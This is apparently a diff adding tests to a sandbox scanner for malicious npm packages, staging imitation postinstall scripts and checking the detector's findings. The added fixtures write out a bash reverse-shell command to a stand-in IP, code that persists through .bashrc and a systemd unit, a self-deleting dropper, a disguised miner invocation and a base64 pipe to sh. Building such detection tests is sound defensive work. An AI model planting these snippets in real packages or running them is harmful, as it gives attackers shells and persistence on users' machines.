@@ -165,4 +165,55 @@ describe('rules on real behavior: imitation malware comes out malicious', () => 
     const ids = new Set(result.findings.map((f) => f.rule));
     for (const id of ['credential-store-read', 'downloader-execution', 'network-activity']) expect(ids, text).toContain(id);
   }, 300_000);
+
+  // Each behavior the catalog names, done for real in the sandbox (no network: connects fail).
+  const shapes: Array<{ name: string; script: string; files?: Record<string, string>; rules: string[] }> = [
+    { name: 'revshell', script: "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1' || true", rules: ['reverse-shell'] },
+    {
+      name: 'persister',
+      script: 'node persist.js',
+      files: {
+        'persist.js': `
+const fs = require('fs'), os = require('os'), path = require('path');
+fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\n(node ~/.cache/.u.js &)\\n');
+fs.mkdirSync(path.join(os.homedir(), '.config/systemd/user'), { recursive: true });
+fs.writeFileSync(path.join(os.homedir(), '.config/systemd/user/updater.service'), '[Service]\\nExecStart=/bin/true\\n');
+`,
+      },
+      rules: ['persistence'],
+    },
+    {
+      name: 'dropper',
+      script: 'node drop.js',
+      files: {
+        'drop.js': `
+const fs = require('fs'), cp = require('child_process');
+fs.writeFileSync('/tmp/.x-update', '#!/bin/sh\\necho staged\\n');
+fs.chmodSync('/tmp/.x-update', 0o755);
+cp.execFileSync('/tmp/.x-update', { stdio: 'inherit' });
+fs.unlinkSync(__filename);
+`,
+      },
+      rules: ['dropped-executable-run', 'executable-made-outside-package', 'anti-forensics'],
+    },
+    { name: 'miner', script: "sh -c 'exec -a xmrig sleep 0.1 -o stratum+tcp://pool.invalid:3333 --donate-level 1' || true", rules: ['crypto-mining'] },
+    {
+      name: 'prober',
+      script: 'cat /proc/1/cgroup /sys/class/dmi/id/product_name 2>/dev/null; grep TracerPid /proc/self/status; echo ZWNobyBoaQ== | base64 -d | sh',
+      rules: ['sandbox-probe', 'shell-execution'],
+    },
+  ];
+  for (const shape of shapes) {
+    it(`${shape.name}: ${shape.rules.join(', ')}`, async () => {
+      const staged = await stageNpm({ name: shape.name, scripts: { postinstall: shape.script }, files: { 'index.js': '', ...shape.files } });
+      cleanup.push(staged.dir);
+      const { run, result } = await detonate(staged);
+      const text = describeResult(shape.name, run, result);
+      console.log(text);
+      const ids = new Set(result.findings.map((f) => f.rule));
+      for (const id of shape.rules) expect(ids, text).toContain(id);
+      expect(result.verdict, text).not.toBe('benign');
+    }, 300_000);
+  }
 });
+
